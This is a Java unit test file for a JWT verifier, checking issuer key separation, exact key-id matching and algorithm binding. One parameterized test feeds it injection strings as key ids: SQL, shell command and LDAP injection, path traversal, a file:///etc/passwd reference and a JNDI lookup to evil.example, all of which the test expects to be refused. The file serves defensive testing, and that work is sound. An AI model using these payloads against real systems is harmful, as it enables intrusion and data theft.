package io.gatehouse.token;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

import io.gatehouse.Rejection;
import io.gatehouse.json.Json;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** JSON Web Token Best Current Practices: which key verifies which token. */
final class Rfc8725Test {
    private final Forge forge = new Forge();

    @Nested
    class Section38Issuers {
        private static final String OTHER = "https://other.example";

        private final SigningKey theirs =
                SigningKey.generate(SignatureAlgorithm.ES256, Forge.RANDOM).withKid(forge.key.kid());
        private final JwtVerifier both = JwtVerifier.of(
                new TrustedIssuer(forge.policy, forge.ring),
                new TrustedIssuer(
                        JwtPolicy.of(OTHER, Forge.AUDIENCE, Set.of(SignatureAlgorithm.ES256)),
                        KeyRing.of(theirs, forge.clock)));

        @Test
        void checksEachIssuerWithItsOwnKeysAlthoughTheyShareAKid() throws Rejection {
            VerifiedJwt ours = both.verify(forge.good(), forge.clock.instant());
            assertThat(ours.issuer()).isEqualTo(Forge.ISSUER);
            assertThat(both.verify(by(theirs, forge.claims("iss", OTHER)), forge.clock.instant())
                            .issuer())
                    .isEqualTo(OTHER);
        }

        @Test
        void refusesOneIssuerSpeakingForAnother() {
            assertThat(forge.refusal(both, by(theirs, forge.claims()))).contains("the signature is wrong");
            assertThat(forge.refusal(both, by(forge.key, forge.claims("iss", OTHER))))
                    .contains("the signature is wrong");
        }

        @Test
        void refusesTwoPoliciesForOneIssuerAndNone() {
            TrustedIssuer issuer = new TrustedIssuer(forge.policy, forge.ring);
            assertThatIllegalArgumentException().isThrownBy(() -> JwtVerifier.of(issuer, issuer));
            assertThatIllegalArgumentException().isThrownBy(() -> JwtVerifier.of());
        }
    }

    @Nested
    class Section310Kid {
        @ParameterizedTest
        @ValueSource(
                strings = {
                    "../../dev/null",
                    "/dev/null",
                    "' OR '1'='1",
                    "1; DROP TABLE keys",
                    "|sleep 10",
                    "$(id)",
                    "\u0000",
                    "*)(uid=*",
                    "https://evil.example/key",
                    "file:///etc/passwd",
                    "",
                    " ",
                    "${jndi:ldap://evil.example}"
                })
        void looksKidUpByEqualityOnly(String kid) {
            assertThat(forge.refusal(forge.withHeader(forge.header("kid", kid))))
                    .contains("no ES256 key of kid");
        }

        @Test
        void comparesKidExactly() {
            String kid = forge.key.kid();
            for (String other : List.of(kid + " ", kid.substring(1), kid + "\u0000", " " + kid)) {
                assertThat(forge.refusal(forge.withHeader(forge.header("kid", other))))
                        .contains("no ES256 key");
            }
        }

        @Test
        void refusesLongKidAndOtherTypes() {
            assertThat(forge.refusal(forge.withHeader(forge.header("kid", "k".repeat(257)))))
                    .isEqualTo("TOKEN_INVALID: the kid has 257 characters");
            for (Object kid : List.of(1, true, List.of(forge.key.kid()), Map.of())) {
                assertThat(forge.refusal(forge.withHeader(forge.header("kid", kid))))
                        .endsWith("kid is not a string");
            }
        }

        @Test
        void triesKeysOfTheAlgorithmWhenThereIsNoKid() throws Rejection {
            forge.ring.announce(
                    SigningKey.generate(SignatureAlgorithm.ES256, Forge.RANDOM).verificationKey());
            Map<String, Object> header = forge.header();
            header.remove("kid");
            forge.accepts(forge.withHeader(header));
        }

        @Test
        void triesABoundedNumberOfKeys() {
            for (int i = 0; i < 20; i++) {
                forge.ring.announce(VerificationKey.of(
                                SignatureAlgorithm.ES256,
                                forge.key.verificationKey().key())
                        .withKid("k" + i));
            }
            assertThat(forge.ring.find(Optional.empty(), SignatureAlgorithm.ES256))
                    .hasSize(KeySource.MAX_CANDIDATES);
        }

        @Test
        void keepsToKidAndAlgorithmWhateverAKeySourceAnswers() {
            VerificationKey wrongName = forge.key.verificationKey().withKid("other");
            KeySource careless = new KeySource() {
                @Override
                public List<VerificationKey> find(Optional<String> kid, SignatureAlgorithm algorithm) {
                    return List.of(wrongName);
                }

                @Override
                public long version() {
                    return 0;
                }
            };
            JwtVerifier verifier = JwtVerifier.of(new TrustedIssuer(forge.policy, careless));
            assertThat(forge.refusal(verifier, forge.good())).contains("no ES256 key of kid");
        }
    }

    @Nested
    class Section31Algorithms {
        @Test
        void keepsOneAlgorithmPerKeyUnderOneKid() {
            SigningKey rsa =
                    SigningKey.generate(SignatureAlgorithm.PS256, Forge.RANDOM).withKid(forge.key.kid());
            forge.policy = JwtPolicy.of(
                    Forge.ISSUER, Forge.AUDIENCE, Set.of(SignatureAlgorithm.ES256, SignatureAlgorithm.PS256));
            String token = Forge.signed(
                    Forge.bytes(Json.write(forge.header("alg", "PS256"))),
                    Forge.bytes(Json.write(forge.claims())),
                    rsa);
            assertThat(forge.refusal(token)).contains("no PS256 key");
        }
    }

    private String by(SigningKey key, Map<String, Object> claims) {
        return Forge.signed(Forge.bytes(Json.write(forge.header())), Forge.bytes(Json.write(claims)), key);
    }
}
